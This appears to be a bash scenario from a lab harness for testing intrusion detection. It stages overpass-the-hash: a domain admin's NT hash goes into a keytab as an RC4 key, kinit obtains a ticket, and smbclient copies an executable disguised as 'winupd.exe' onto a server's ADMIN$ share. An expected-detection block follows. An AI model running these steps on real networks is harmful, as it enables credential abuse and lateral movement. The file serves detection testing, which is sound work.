# shellcheck shell=bash disable=SC2034,SC2154  # settings are read, and variables set, by record and lab
title='A ticket got with a hash alone, and used'
about="A domain administrator's NT hash, put into a keytab as an RC4 key, gets a ticket (overpass-the-hash), and that opens ADMIN\$ of a
member server: the one logon whose account key is not the password's AES key leads to the access."
server=mem1
filter=$domain_filter
by='hash'
expect='
incident admin-share-copy high unverified
account LAB.TEST\dave
technique T1021.002 T1550.002 T1570
step auth.rc4 smb.tree.admin file.write.exe
never svcctl.*
access unverified
file write winupd.exe pe32
'

run() {
  /usr/bin/python3 -B "$here/py/make_keytab.py" "$(client_file keytab)" "$admin@$realm" "${nt_hash[$admin]}"
  sed 's/\[libdefaults\]/&\n  default_tkt_enctypes = rc4-hmac/' "$lab/$client/etc/krb5.conf" >"$(client_file rc4.conf)"
  client env KRB5_CONFIG=rc4.conf kinit -k -t keytab "$admin@$realm"
  client smbclient "//$server_name/ADMIN\$" --use-krb5-ccache=ticket -c 'put setup.exe winupd.exe'
  connected 'IPC$' 'ADMIN$'
  wrote 'ADMIN$' winupd.exe setup.exe
  same_on_disk 'ADMIN$' winupd.exe setup.exe
}
